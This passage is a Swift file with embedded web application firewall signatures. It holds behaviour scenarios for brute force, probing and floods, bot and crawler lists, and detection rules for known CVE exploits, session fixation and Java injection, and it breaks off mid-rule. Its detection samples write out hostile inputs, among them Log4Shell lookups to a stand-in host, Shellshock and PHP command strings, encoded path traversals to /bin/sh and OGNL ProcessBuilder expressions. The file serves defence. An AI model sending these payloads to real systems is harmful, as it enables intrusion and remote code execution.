// Made by scripts/embed-defaults from alerts/waf/; edit those.

/// The shipped signatures, carried in the binary.
package enum EmbeddedSignatures {
    /// The text of a shipped file, for instance `alerts/waf/sqli.yaml`; nil where there is none of that name.
    package static func file(_ name: String) -> String? { files.first { $0.name == name }?.text }

    /// Every shipped file.
    package static let files: [(name: String, text: String)] = [
        (
            "alerts/waf/behaviour.yaml",
            #"""
            # What only repetition makes an attack. `capacity` events fit, one drains every `leak`; one more overflows. Numbers are those at which
            # the field's tools trip, where they have the scenario. What a single event trips is evidence only (`observe`): one request makes nobody an
            # offender, repetition does. Findings are what the signatures of the other files found in a request.
            scenarios:
              - id: login-brute-force
                family: brute-force
                reason: Many logins fail from one address in a short time.
                events: [login-failed, unknown-user]
                capacity: 5
                leak: 10s
                positive: ["6 x login-failed every 1s", "6 x unknown-user account={n} every 1s"]
                negative: ["5 x login-failed every 1s", "60 x login-failed every 600s", "60 x login-succeeded every 1s"]
              - id: login-slow-brute-force
                family: brute-force
                reason: Logins fail from one address again and again over hours.
                events: [login-failed, unknown-user]
                capacity: 10
                leak: 60s
                positive: ["30 x login-failed every 30s"]
                negative: ["10 x login-failed every 1s", "100 x login-failed every 90s"]
              - id: user-enumeration
                family: brute-force
                reason: One address tries many different accounts.
                events: [login-failed, unknown-user]
                distinct: account
                capacity: 5
                leak: 10s
                positive: ["6 x unknown-user account=a{n} every 1s"]
                negative: ["50 x login-failed account=a every 1s"]
              - id: distributed-brute-force
                family: brute-force
                reason: One account is tried from many addresses, few times each.
                events: [login-failed]
                by: account
                distinct: client
                capacity: 10
                leak: 300s
                positive: ["11 x login-failed account=a from={n} every 20s"]
                negative: ["11 x login-failed account=a{n} from={n} every 20s", "50 x login-failed account=a every 1s"]
              - id: network-brute-force
                family: brute-force
                reason: Logins fail from neighbouring addresses that take turns.
                events: [login-failed, unknown-user]
                by: network
                distinct: client
                capacity: 10
                leak: 60s
                positive: ["11 x unknown-user account=a{n} from={n} every 1s"]
                negative: ["100 x login-failed every 1s", "10 x login-failed from={n} every 1s"]
              - id: http-login-brute-force
                family: brute-force
                reason: Passwords are sent to a login form faster than a person types them.
                events: [login-attempt]
                capacity: 5
                leak: 10s
                positive: ["6 x POST /customer/account/loginPost 302 every 1s", "6 x POST /wp-login.php 200 every 1s"]
                negative: ["6 x GET /wp-login.php 200 every 1s", "60 x POST /checkout/cart/add 302 every 1s", "60 x POST /admin 302 every 60s"]
              - id: negotiation-scan
                family: probing
                reason: A client offers algorithms that nobody has, again and again.
                events: [negotiation-failed]
                capacity: 5
                leak: 10s
                positive: ["6 x negotiation-failed every 1s"]
                negative: ["5 x negotiation-failed every 1s"]
              - id: http-probing
                family: probing
                reason: Many different paths are refused to one address.
                events: [refused]
                pages: true
                distinct: path
                capacity: 10
                leak: 10s
                positive: ["11 x GET /a{n}.php 404 every 0.1s"]
                negative: ["100 x GET /favicon.ico 404 every 0.1s", "60 x GET /theme/{n}.png 404 every 0.1s", "100 x GET /a{n}.html 200 every 0.1s", "100 x GET /a{n}.html 404 every 30s"]
              - id: http-slow-probing
                family: probing
                reason: Different paths are refused to one address over hours, too slowly for short counts.
                events: [refused]
                pages: true
                distinct: path
                capacity: 40
                leak: 600s
                positive: ["60 x GET /a{n}.php 404 every 60s"]
                negative: ["40 x GET /a{n}.php 404 every 60s", "200 x GET /a{n}.php 404 every 900s"]
              - id: http-crawl
                family: scanner
                reason: Pages are fetched faster than any reader turns them.
                events: [page]
                distinct: path
                capacity: 40
                leak: 0.5s
                mode: observe
                positive: ["60 x GET /a{n}.html 200 every 0.1s"]
                negative: ["60 x GET /a{n}.png 200 every 0.1s", "60 x GET /a{n}.html 200 every 1s"]
              - id: http-flood
                family: flood
                reason: More requests come from one address than a browser makes.
                events: [request]
                capacity: 300
                leak: 0.05s
                mode: observe
                positive: ["400 x GET / 200 every 0.01s"]
                negative: ["300 x GET / 200 every 0.01s", "1000 x GET / 200 every 0.1s"]
              - id: http-heavy-flood
                family: flood
                reason: More requests come from one address than a whole office makes.
                events: [request]
                capacity: 2000
                leak: 0.01s
                mode: ask
                positive: ["2500 x GET / 200 every 0.001s"]
                negative: ["5000 x GET / 200 every 0.02s"]
              - id: missing-page-flood
                family: flood
                reason: Pages that there are none of are asked for faster than anybody follows links - a flood that goes past the cache.
                events: [refused]
                statuses: [404]
                pages: true
                capacity: 30
                leak: 0.5s
                mode: ask
                positive: ["40 x GET /{n}zx 404 every 0.05s"]
                negative: ["100 x GET /theme/{n}.png 404 every 0.05s", "100 x GET /{n}zx 404 every 1s", "100 x GET /{n}zx 403 every 0.05s"]
              - id: invalid-http-version
                family: protocol
                reason: A version of HTTP that there is none of comes from a tool that floods, not from a browser.
                events: [bad-version]
                capacity: 0
                leak: 60s
                mode: observe
                positive: ["1 x GET / 400 version=1.2"]
                negative: ["1 x GET / 200 version=1.1", "1 x GET / 200 version=2.0", "1 x GET / 200 version=1.0"]
              - id: attack-repetition
                family: scanner
                reason: Different attacks come from one address.
                events: [attack]
                distinct: request
                capacity: 3
                leak: 60s
                positive: ["4 x GET /?id={n}%20union%20select%20password%20from%20users 200 every 1s"]
                negative: ["3 x GET /?id={n}%20union%20select%20password%20from%20users 200 every 1s", "50 x GET /?q={n} 200 every 1s"]
              - id: sensitive-files
                family: probing
                reason: Several files are asked for that hold secrets where somebody left them.
                events: [finding]
                rules: [probing-secret-file, probing-backup, probing-dot-file]
                distinct: path
                capacity: 4
                leak: 5s
                positive: ["5 x GET /{n}/.env 404 every 0.1s"]
                negative: ["50 x GET /.env 404 every 0.1s", "5 x GET /{n}/.env 404 every 30s", "50 x GET /.well-known/{n} 404 every 0.1s"]
              - id: backdoors
                family: probing
                reason: More than one web shell by its name - somebody looks for what others left behind.
                events: [finding]
                rules: [probing-web-shell, magento-web-shell]
                distinct: path
                capacity: 1
                leak: 5s
                positive: ["2 x GET /c99{n}.php 404 every 1s"]
                negative: ["1 x GET /c99.php 404", "20 x GET /c99.php 404 every 1s", "20 x GET /a{n}.php 404 every 0.1s"]
              - id: bad-user-agent
                family: scanner
                reason: A tool that attacks names itself, more than once.
                events: [finding]
                rules: [scanner-user-agent]
                capacity: 1
                leak: 60s
                positive: ["2 x GET /{n} 200 agent=sqlmap every 1s"]
                negative: ["1 x GET / 200 agent=sqlmap", "20 x GET /{n} 200 every 0.1s"]
              - id: traversal-probing
                family: traversal
                reason: Several ways out of the document root are tried.
                events: [finding]
                families: [traversal]
                distinct: request
                capacity: 3
                leak: 10s
                positive: ["4 x GET /{n}/../../../etc/passwd 404 every 0.1s"]
                negative: ["20 x GET /a/../../../etc/passwd 404 every 0.1s", "20 x GET /a{n}/b 404 every 0.1s"]
              - id: sqli-probing
                family: sqli
                reason: Many different pieces of SQL are sent in parameters.
                events: [finding]
                families: [sqli]
                distinct: request
                capacity: 10
                leak: 1s
                positive: ["12 x GET /?a={n}%20union%20select%20password%20from%20users 200 every 0.05s"]
                negative: ["50 x GET /?q=select+union+jacket+{n} 200 every 0.05s", "8 x GET /?a={n}%20union%20select%20password%20from%20users 200 every 0.05s"]
              - id: xss-probing
                family: xss
                reason: Many different pieces of markup or script are sent in parameters.
                events: [finding]
                families: [xss]
                distinct: request
                capacity: 5
                leak: 1s
                positive: ["8 x GET /?a={n}<script>alert(1)</script> 200 every 0.05s"]
                negative: ["50 x GET /?q=a<{n} 200 every 0.05s", "4 x GET /?a={n}<script>alert(1)</script> 200 every 0.05s"]
              - id: wordpress-user-enumeration
                family: brute-force
                reason: Authors are asked for by number, one after the other, to learn the names of accounts.
                events: [finding]
                rules: [probing-wordpress-author]
                distinct: request
                capacity: 5
                leak: 10s
                positive: ["6 x GET /?author={n} 200 every 1s"]
                negative: ["50 x GET /?author=3 200 every 1s", "50 x GET /?author=rowling{n} 200 every 1s"]
              - id: wordpress-configuration
                family: probing
                reason: Copies of WordPress's configuration are looked for under many names.
                events: [finding]
                rules: [probing-wordpress-configuration]
                distinct: path
                capacity: 5
                leak: 10s
                positive: ["6 x GET /wp-config.php.{n} 404 every 1s"]
                negative: ["50 x GET /wp-config.php 404 every 1s", "6 x GET /wp-content/{n}.png 404 every 1s"]
              - id: panel-login-brute-force
                family: brute-force
                reason: Passwords are sent to a hosting panel's login faster than a person types them.
                events: [finding]
                rules: [probing-panel-login]
                statuses: [200]
                sending: true
                capacity: 5
                leak: 10s
                positive: ["6 x POST /apps/login 200 every 1s"]
                negative: ["50 x GET /apps/login 200 every 1s", "50 x POST /apps/login 302 every 1s"]
              - id: cacti-poller-guessing
                family: rce
                reason: Identifiers of Cacti's pollers are guessed to reach the command injection behind them (CVE-2022-46169).
                events: [finding]
                rules: [exploit-cacti-poller]
                distinct: request
                capacity: 5
                leak: 10s
                positive: ["6 x GET /remote_agent.php?action=polldata&poller_id=1&local_data_ids[]={n} 404 every 0.1s"]
                negative: ["50 x GET /remote_agent.php?action=polldata&local_data_ids[]=1 404 every 0.1s"]
              - id: card-testing
                family: brute-force
                reason: Payments fail one after the other for one address.
                events: [payment-failed]
                capacity: 3
                leak: 30s
                positive: ["4 x payment-failed every 6s"]
                negative: ["3 x payment-failed every 6s", "30 x payment-failed every 120s"]
              - id: card-testing-network
                family: brute-force
                reason: Payments fail for many addresses of one network.
                events: [payment-failed]
                by: network
                distinct: client
                capacity: 10
                leak: 30s
                positive: ["11 x payment-failed from={n} every 1s"]
                negative: ["10 x payment-failed from={n} every 1s", "30 x payment-failed every 1s"]
              - id: mail-rejected
                family: probing
                reason: A mail server refuses one client again and again.
                events: [rejected, relay-denied, login-failed, unknown-user]
                services: [postfix, exim]
                capacity: 5
                leak: 10s
                positive: ["6 x rejected service=postfix every 1s", "6 x login-failed service=postfix every 1s"]
                negative: ["5 x rejected service=postfix every 1s", "6 x login-failed service=ssh every 1s"]
              - id: open-relay-search
                family: probing
                reason: Mail for somebody else's domain is offered more than once - a search for an open relay.
                events: [relay-denied]
                capacity: 1
                leak: 60s
                mode: observe
                positive: ["2 x relay-denied service=postfix every 17s"]
                negative: ["1 x relay-denied service=postfix", "5 x rejected service=postfix every 1s"]
              - id: request-limit
                family: flood
                reason: The web server's own limit of requests is exceeded again and again.
                events: [limited]
                services: [nginx]
                capacity: 5
                leak: 60s
                mode: ask
                positive: ["6 x limited service=nginx every 1s"]
                negative: ["5 x limited service=nginx every 1s", "60 x limited service=nginx every 120s"]
              - id: denied-by-configuration
                family: probing
                reason: What the web server's configuration denies is asked for again and again.
                events: [denied]
                capacity: 20
                leak: 10s
                mode: ask
                positive: ["21 x denied service=apache every 0.1s"]
                negative: ["20 x denied service=nginx every 0.1s", "100 x denied service=nginx every 15s"]
              - id: known-exploit
                family: scanner
                reason: A hole of other software is tried that this host cannot have - somebody works through a list.
                events: [finding]
                rules: [exploit-telerik, exploit-fortinet, exploit-panel-login, exploit-cacti-command, exploit-confluence-setup, exploit-panos, exploit-apache-path, exploit-zimbra, exploit-f5, exploit-pulse, exploit-thinkphp, exploit-vmware-template, exploit-vcenter, exploit-spring4shell, exploit-device, exploit-framework]
                capacity: 0
                leak: 60s
                mute: 300s
                mode: observe
                positive: ["1 x GET /_ignition/execute-solution 404", "1 x GET /cgi-bin/luci 404"]
                negative: ["50 x GET /catalog/product/view/id/{n} 200 every 0.1s", "50 x GET /?author={n} 200 every 1s"]
              - id: false-crawler
                family: bot
                reason: A client calls itself a search engine's crawler, and the names of its address show that it is none.
                events: [false-crawler]
                pages: true
                capacity: 2
                leak: 60s
                positive: ["3 x false-crawler page=yes every 1s"]
                negative: ["2 x false-crawler page=yes every 1s", "20 x false-crawler every 1s", "20 x GET /{n} 200 agent=Googlebot every 1s"]
              - id: provider-credential-stuffing
                family: brute-force
                reason: Logins to many accounts fail from one autonomous system, in which few succeed.
                events: [login-failed, unknown-user]
                by: autonomous-system
                distinct: account
                relief: [login-succeeded]
                relief-factor: 4
                capacity: 60
                leak: 30s
                mute: 600s
                mode: observe
                positive: ["90 x login-failed account=a{n} from={n} as=64500 every 1s"]
                negative: ["60 x login-failed account=a{n} from={n} as=64500 every 1s", "500 x login-failed account=a as=64500 every 1s", "90 x login-failed account=a{n} from={n} as={n} every 1s", "90 x login-failed account=a{n} from={n} every 1s"]
              - id: provider-attack-wave
                family: scanner
                reason: Attacks come from many addresses of one autonomous system at once.
                events: [attack]
                by: autonomous-system
                distinct: client
                capacity: 20
                leak: 60s
                mute: 600s
                mode: observe
                positive: ["25 x attack from={n} as=64500 every 1s"]
                negative: ["20 x attack from={n} as=64500 every 1s", "100 x attack as=64500 every 1s", "25 x attack from={n} as={n} every 1s"]
              - id: country-credential-stuffing
                family: brute-force
                reason: Logins to many accounts fail from one country, in which few succeed - many small providers are rented at once.
                events: [login-failed, unknown-user]
                by: country
                distinct: autonomous-system
                relief: [login-succeeded]
                relief-factor: 2
                capacity: 30
                leak: 60s
                mute: 600s
                mode: observe
                positive: ["40 x login-failed account=a{n} from={n} as={n} country=DE every 1s"]
                negative: ["200 x login-failed account=a{n} from={n} as=64500 country=DE every 1s", "30 x login-failed account=a{n} from={n} as={n} country=DE every 1s"]
              - id: login-from-new-country
                family: brute-force
                reason: An account that lets one into the machine is used from a country from which it was not used in 30 days.
                events: [login-succeeded]
                services: [ssh, vsftpd, proftpd]
                by: account
                new: country
                within: 30d
                mode: ask
                positive: ["2 x login-succeeded service=ssh account=root country={n} every 1h"]
                negative: ["20 x login-succeeded service=ssh account=root country=DE every 1h", "20 x login-succeeded service=ssh account=a{n} country={n} every 1h", "2 x login-succeeded service=ssh account=root country={n} every 31d", "9 x login-succeeded service=dovecot account=a country={n} every 1h", "9 x login-failed service=ssh account=root country={n} every 1h"]
              - id: admin-from-new-country
                family: brute-force
                reason: The shop's administration lets someone in from a country from which nobody came in in 30 days.
                events: [admin-entered]
                by: account
                new: country
                within: 30d
                mode: ask
                positive: ["2 x POST /admin 302 country={n} every 1h", "2 x POST /rest/V1/integration/admin/token 200 country={n} every 1h"]
                negative: ["9 x POST /admin 302 country=DE every 1h", "9 x GET /admin 302 country={n} every 1h", "9 x POST /admin 200 country={n} every 1h", "9 x POST /rest/V1/integration/admin/token 401 country={n} every 1h", "9 x POST /customer/account/loginPost 302 country={n} every 1h"]
            """#
        ),
        (
            "alerts/waf/bot.yaml",
            #"""
            # Bots that harvest, spam or pretend.
            family: bot
            rules:
              - id: bot-harvester
                reason: A client that collects addresses, copies sites or posts spam names itself.
                literals: ["emailcollector", "emailsiphon", "emailwolf", "webzip", "webcopier", "httrack", "teleport", "extractorpro", "cherrypicker", "webstripper", "sitesnagger", "xenu link", "xrumer", "webleacher", "webreaper", "offline explorer", "webwhacker", "larbin", "netspider", "copyrightcheck", "nicerspro", "mister pix", "webbandit", "blexbot", "indy library", "missigua", "turnitinbot", "heritrix", "telesoft", "grub-client", "libwww-perl", "lwp::simple", "snoopy v", "wonderbot", "atomic_email_hunter", "internet exploiter", "mozilla/4.0+(", "casper bot", "8484 boston", "guestbook auto submitter", "masterspider", "xmlrpc exploit", "email extractor", "zeus 32", "mailto:craftbot"]
                parts: [user-agent]
                severity: warning
                positive: ["HTTrack 3.0x", "EmailCollector/1.0"]
                negative: ["Mozilla/5.0 (compatible; bingbot/2.0)", "Mozilla/5.0 (Macintosh)"]
              - id: bot-shell-agent
                reason: A user agent that is code or a command, for whatever reads the logs.
                literals: ["<?php", "<script", "/bin/", "eval(", "base64_decode", "${jndi", "() {", "union select", "sleep(", "../"]
                parts: [user-agent, referer]
                pattern: '<\?php|<script|/bin/(?:ba)?sh|eval\s*\(|base64_decode|\$\{jndi|^\(\)\s*\{|union\s+(?:all\s+)?select|(?:and|or|xor|\()\s*sleep\s*\(|\.\./\.\./'
                positive: ["<?php system('id');", "() { :;}; echo x"]
                negative: ["Mozilla/5.0", "https://shop.example/?x=1"]
            """#
        ),
        (
            "alerts/waf/crawlers.yaml",
            #"""
            # Crawlers that visitors claim to be, and how the names of their addresses end. A claim is verified by the name of the address (PTR) and
            # the addresses of that name (A, AAAA), which must contain it: only who runs both the addresses and the domain can have it so.
            crawlers:
              - id: googlebot
                agents: ["googlebot", "google-inspectiontool", "storebot-google", "adsbot-google", "mediapartners-google", "apis-google"]
                names: [googlebot.com, google.com, googleusercontent.com]
              - id: bingbot
                agents: ["bingbot", "msnbot", "adidxbot", "bingpreview"]
                names: [search.msn.com]
              - id: applebot
                agents: ["applebot/"]
                names: [applebot.apple.com]
              - id: yandexbot
                agents: ["yandexbot", "yandeximages", "yandexmobilebot"]
                names: [yandex.ru, yandex.net, yandex.com]
              - id: baiduspider
                agents: ["baiduspider"]
                names: [baidu.com, baidu.jp]
              - id: yahoo-slurp
                agents: ["yahoo! slurp"]
                names: [crawl.yahoo.net]
              - id: petalbot
                agents: ["petalbot"]
                names: [petalsearch.com, aspiegel.com]
              - id: seznambot
                agents: ["seznambot"]
                names: [seznam.cz]
              - id: qwantbot
                agents: ["qwantbot", "qwantify"]
                names: [qwant.com]
              - id: ccbot
                agents: ["ccbot/"]
                names: [crawl.commoncrawl.org]
            """#
        ),
        (
            "alerts/waf/exploits.yaml",
            #"""
            # Holes of other software that everybody is tried for: whoever asks a shop for them has a list and works through it. Each is an attack
            # by itself, whatever was answered.
            family: probing
            rules:
              - id: exploit-telerik
                reason: The upload handler of Telerik's components unpacks what it is sent (CVE-2019-18935).
                literals: ["telerik.web.ui"]
                parts: [path]
                pattern: 'telerik\.web\.ui\.(?:webresource|dialoghandler|spellcheckhandler)\w*\.a(?:xd|spx)'
                positive: ["/Telerik.Web.UI.WebResource.axd", "/desktopmodules/telerik.web.ui.dialoghandler.aspx"]
                negative: ["/telerik-reviews.html"]
              - id: exploit-fortinet
                reason: Fortinet's management interface takes orders from anybody who claims to be local (CVE-2022-40684, CVE-2018-13379).
                literals: ["/api/v2/cmdb/", "/remote/fgt_lang", "/remote/logincheck", "/remote/error", "/remote/hostcheck_validate"]
                parts: [path]
                pattern: '^/api/v2/cmdb/|^/remote/(?:fgt_lang|logincheck|hostcheck_validate)'
                positive: ["/api/v2/cmdb/system/admin/admin", "/remote/fgt_lang"]
                negative: ["/api/v2/products", "/remote/error"]
              - id: exploit-panel-login
                reason: A command in the name of a login's parameter runs on the host of a control panel (CVE-2022-44877).
                literals: ["login=$", "login=`", "login=%24"]
                parts: [pair]
                pattern: '^login=(?:\$[({]|`)'
                positive: ["login=$(id)", "login=`id`"]
                negative: ["login=valid", "login=$5"]
              - id: exploit-cacti-poller
                reason: Cacti's agent for pollers is asked for data (CVE-2022-46169); a mark for those who count guesses.
                literals: ["/remote_agent.php"]
                parts: [path]
                severity: mark
                positive: ["/cacti/remote_agent.php"]
                negative: ["/remote-agents"]
              - id: exploit-cacti-command
                reason: A command stands in place of a poller's number (CVE-2022-46169).
                literals: ["poller_id=;", "poller_id=`", "poller_id=|", "poller_id=$", "poller_id=&"]
                parts: [pair]
                positive: ["poller_id=;touch x", "poller_id=%3bid"]
                negative: ["poller_id=1", "poller_id="]
              - id: exploit-confluence-setup
                reason: Confluence's set-up makes administrators of strangers (CVE-2023-22515, CVE-2023-22518).
                literals: ["/setup/setupadministrator", "/server-info.action", "/setup/finishsetup", "setup-restore", "/json/setup"]
                parts: [path]
                pattern: '/setup/(?:setupadministrator|finishsetup)\S*\.action|/server-info\.action|/json/setup-restore[\w-]*\.action'
                positive: ["/setup/setupadministrator.action", "/server-info.action", "/json/setup-restore.action"]
                negative: ["/server-info", "/setup/"]
              - id: exploit-panos
                reason: PAN-OS lets whoever ends a path as a map of scripts past its login (CVE-2024-0012, CVE-2024-9474).
                literals: [".js.map"]
                parts: [path]
                pattern: '\.php/\S*\.js\.map$'
                positive: ["/php/ztp_gate.php/.js.map", "/php/utils/createRemoteAppwebSession.php/x.js.map"]
                negative: ["/static/app.js.map"]
              - id: exploit-apache-path
                reason: Encoded dots below an alias lead Apache out of its document root and run programs (CVE-2021-41773, CVE-2021-42013).
                view: raw
                literals: [".%2e/", "%2e%2e/", "%2e./", "%%32%65"]
                parts: [path]
                pattern: '/(?:cgi-bin|icons|images|assets|uploads|cgi|static)/(?:(?:\.|%2e|%%32%65|%%32e|%2%65){2}/){2,}'
                positive: ["/cgi-bin/.%2e/.%2e/bin/sh", "/icons/.%2E/%2e%2e/etc/passwd", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"]
                negative: ["/a%2eb/c", "/images/../x"]
              - id: exploit-zimbra
                reason: Zimbra's import of mailboxes unpacks archives anywhere (CVE-2022-27925, CVE-2022-37042).
                literals: ["/service/extension/backup/mboximport"]
                parts: [path]
                positive: ["/service/extension/backup/mboximport"]
                negative: ["/service/extension"]
              - id: exploit-f5
                reason: Semicolons lead past the login of F5's management interface (CVE-2020-5902, CVE-2022-1388).
                literals: ["/tmui/", "/mgmt/tm/util/bash"]
                parts: [path]
                pattern: '/tmui/(?:login\.jsp/\.\.;|locallb/workspace)|/mgmt/tm/util/bash'
                positive: ["/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "/mgmt/tm/util/bash"]
                negative: ["/tmui"]
              - id: exploit-pulse
                reason: Dots behind the help pages of Pulse Secure read any file (CVE-2019-11510).
                literals: ["/dana-na/"]
                parts: [path]
                pattern: '/dana-na/\.\./dana/'
                positive: ["/dana-na/../dana/html5acc/guacamole/../../etc/passwd"]
                negative: ["/dana-na/auth"]
              - id: exploit-thinkphp
                reason: ThinkPHP calls any function of any class that the route names (CVE-2018-20062).
                literals: ["s=", "think"]
                parts: [parameter]
                pattern: 'index/\\{1,2}think\\{1,2}\S*/(?:invokefunction|display)|\\think\\\S*/(?:invokefunction|display)'
                positive: ["index/\\think\\app/invokefunction", "/Index/\\\\think\\\\app/invokefunction"]
                negative: ["index/think", "s=1"]
              - id: exploit-vmware-template
                reason: A template in a parameter of VMware's login page runs commands (CVE-2022-22954).
                literals: ["freemarker.template.utility", "/catalog-portal/ui/oauth"]
                parts: [path, parameter]
                pattern: 'freemarker\.template\.utility\.(?:execute|objectconstructor|jythonruntime)'
                positive: ["${\"freemarker.template.utility.Execute\"?new()(\"id\")}"]
                negative: ["freemarker manual"]
              - id: exploit-vcenter
                reason: vCenter fetches any address and reads any file for strangers (VMSA-2021-0027), or takes uploads (CVE-2021-21972).
                literals: ["/ui/vcav-bootstrap/", "/ui/vropspluginui/", "/analytics/telemetry/ph/api"]
                parts: [path]
                positive: ["/ui/vcav-bootstrap/rest/vcav-providers/provider-logo", "/ui/vropspluginui/rest/services/uploadova"]
                negative: ["/ui/vcav"]
              - id: exploit-spring4shell
                reason: A parameter's name reaches the class loader through a form's object (CVE-2022-22965).
                literals: ["class.module.classloader", "class[module]", "class.classloader"]
                parts: [name]
                positive: ["class.module.classLoader.URLs[0]"]
                negative: ["class.module"]
              - id: exploit-zoneminder
                reason: ZoneMinder's log keeps the script that anybody sends and shows it to its administrators (CVE-2022-39285, CVE-2022-39290).
                literals: ["request=log"]
                parts: [pair]
                severity: mark
                positive: ["request=log"]
                negative: ["request=stream"]
              - id: exploit-device
                reason: Pages of routers, cameras and storage that run commands for strangers; no shop has any of them.
                view: path
                literals: ["/setup.cgi", "/cgi/networkdiag.cgi", "/cgi-bin/luci", "/boaform/", "/gponform/", "/hnap1", "/goform/", "/picsdesc.xml", "/wanipcn.xml", "/ctrlt/deviceupgrade", "/cgi-bin/nas_sharing.cgi", "/cgi-bin/mainfunction.cgi", "/cgi-bin/kerbynet", "/cgi-bin/viewlog.asp", "/currentsetting.htm", "/device.rsp", "/shell?cd", "/tmunblock.cgi", "/language/swedish", "/cgi-bin/weblogin.cgi", "/cgi-bin/account_mgr.cgi", "/board.cgi", "/stssys.htm"]
                parts: [path]
                pattern: '^/(?:setup\.cgi|cgi/networkdiag\.cgi|boaform/|gponform/|hnap1|goform/\w|picsdesc\.xml|wanipcn\.xml|ctrlt/deviceupgrade|currentsetting\.htm|device\.rsp|tmunblock\.cgi|board\.cgi|stssys\.htm)|/cgi-bin/(?:luci|nas_sharing|mainfunction|kerbynet|viewlog|weblogin|account_mgr)'
                positive: ["/setup.cgi", "/cgi/networkDiag.cgi", "/cgi-bin/luci/;stok=", "/goform/set_LimitClient_cfg"]
                negative: ["/setup.html", "/goforms", "/shop/device"]
              - id: exploit-framework
                reason: Debuggers and test runners of frameworks that run what they are sent, left where strangers reach them.
                view: path
                literals: ["/_ignition/execute-solution", "/eval-stdin.php", "/_fragment", "/telescope/requests", "/actuator/gateway/routes", "/vendor/phpunit", "/laravel-filemanager/upload", "/_debugbar/open", "/index.php/_profiler/open", "/app_dev.php"]
                parts: [path]
                pattern: '/_ignition/execute-solution|/phpunit/\S*eval-stdin\.php|/_fragment$|/telescope/requests|/actuator/gateway/routes|/laravel-filemanager/upload|/_debugbar/open|/_profiler/open|/app_dev\.php'
                positive: ["/_ignition/execute-solution", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]
                negative: ["/ignition", "/vendor/phpunit-manual"]
            """#
        ),
        (
            "alerts/waf/fixation.yaml",
            #"""
            # Sessions that the attacker chooses.
            family: fixation
            rules:
              - id: fixation-set-cookie
                reason: A cookie is set through markup or a header that the value carries.
                literals: [".cookie", "set-cookie", "http-equiv"]
                pattern: '\.cookie\b.{0,60}?(?:;\W*?(?:expires|domain|path)\W*?=|=)|\bhttp-equiv\W+?set-cookie\b|set-cookie\s*:'
                positive: ["document.cookie=\"sessionid=1\"", ".cookie;expires=", "<meta http-equiv='set-cookie' content=x>"]
                negative: ["my.cookies", "cookie jar"]
              - id: fixation-session-parameter
                reason: A session's identifier comes in the query, from a link that someone else made.
                words: ["jsessionid", "phpsessid", "aspsessionid", "asp.net_sessionid", "cfid", "cftoken", "cfsid", "jservsession", "jwsession", "session_id", "sessid", "weblogicsession", "sid=", "siteserver", "webid_session"]
                parts: [name]
                pattern: '^(?:jsessionid|phpsessid|aspsessionid\w*|asp\.net_sessionid|cfid|cftoken|cfsid|jservsession|jwsession|session_id|sessid|weblogicsession|siteserver|webid_session)$'
                positive: ["PHPSESSID", "jsessionid"]
                negative: ["sid", "sessions", "session"]
                severity: warning
              - id: fixation-java-session
                reason: A Java session's identifier as a parameter - servers write it into the path behind a semicolon, so somebody else put it here.
                parts: [pair]
                literals: ["jsessionid="]
                pattern: '^jsessionid=[0-9a-z!._-]{16,}$'
                positive: ["jsessionid=74B0CB414BD77D17B5680A6386EF1666"]
                negative: ["jsessionid=", "jsessionid=on"]
            """#
        ),
        (
            "alerts/waf/java.yaml",
            #"""
            # Java and its neighbours: JNDI look-ups, expression languages, serialized objects, class loaders.
            family: java
            rules:
              - id: java-jndi
                reason: A look-up that makes a logging library fetch and run code (Log4Shell), with what hides its name.
                view: script
                literals: ["${jndi", "${lower:", "${upper:", "${env:", "${sys:", "${::-", "${date:", "${ctx:", "${main:", "${java:", "${bundle:", "${base64:", "${k8s:", "${docker:", "${web:", "${log4j:", "${${", "${env", "jndi:ldap", "jndi:rmi", "jndi:dns", "${#", "${script:", "${dns:", "${url:", "${const:", "${:"]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer, host, method]
                pattern: '\$\{[^}]{0,60}jndi|\$\{(?:lower|upper|env|sys|date|ctx|main|java|bundle|base64|k8s|docker|web|log4j|script|dns|url|const|event|marker|map|sd|spring|urldecoder|file|xml|base64decoder|base64encoder|resourcebundle|localhost|properties|::?-?[^}]{0,4}|:)[:}\-]|\$\{\$\{|jndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?)|\$\{#'
                positive: ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x}", "%24%7bjndi:dns://x%7d", "${${::-j}${::-n}di:x}", "${script:js:x}"]
                negative: ["${name}", "jndi tutorial", "{lower}"]
              - id: java-expression
                reason: An expression in OGNL, SpEL or EL reaches a class, a runtime or a method.
                literals: ["%{", "#{", "${", "@java.", "#_memberaccess", "ognl", "t(java", "getruntime", ".getclass", "#context", "processbuilder", "#application", "#request", "#session", "forname", "redirect:", "redirectaction:", "class.module", "classloader", "java.lang", "java.io", "javax.", "#attr", "#parameters", "#this", "new java", "@ognl", "getmethod", "invoke(", ".newinstance", "java.util", "java.net", "org.apache", "com.sun", "scriptengine", "xmldecoder", "bcel", "java."]
                parts: [path, name, parameter, cookie, body, header, user-agent, referer]
                pattern: '[%#$]\{[^}]*(?:#|@|\(|new\s|\bt\()|@java\.|#_?(?:memberaccess|context|application|request|session|attr|parameters|root|this)\b|\bognl[.(@]|t\(\s*java|get(?:runtime|class|method)\w*\s*\(|processbuilder|class\.forname|redirect(?:action)?:\s*[%$#]\{|class\.(?:module\.)?classloader|\.classloader\b|java\.(?:lang|io|util|net|nio|sql|rmi|security|beans|math)\.|javax\.(?:script|naming|management|crypto|servlet|faces|el)|\.newinstance\b|org\.(?:apache|springframework|codehaus|mozilla|omg)\.\w+|com\.(?:sun|opensymphony)\.\w+|scriptenginemanager|xmldecoder|bcel'
                positive: ["%{#a=(new java.lang.ProcessBuilder('id'))}", "${T(java.lang.Runtime).getRuntime()}", "class.module.classLoader.resources", "#{7*7(1)}", "redirect:${#x}"]
                negative: ["${name}", "java course", "class loader (blue)", "#request5"]
              - id: java-serialized
                reason: The first bytes of a serialized Java object, as such, in base64, or in hexadecimal.
                literals: ["aced0005", "ro0ab", "kztaaa", "cs7qaf"]
                parts: [path, name, parameter, cookie, body, header]
                pattern: '^ro0ab[q-z]|^kztaaa|^cs7qaf|\baced0005'
                positive: ["rO0ABXNyAB", "aced00057372"]
                negative: ["ro0abcd-", "acedia"]
              - id: java-spring-path
                reason: Paths that open the insides of Java applications - consoles, actuators, gateways, invokers.
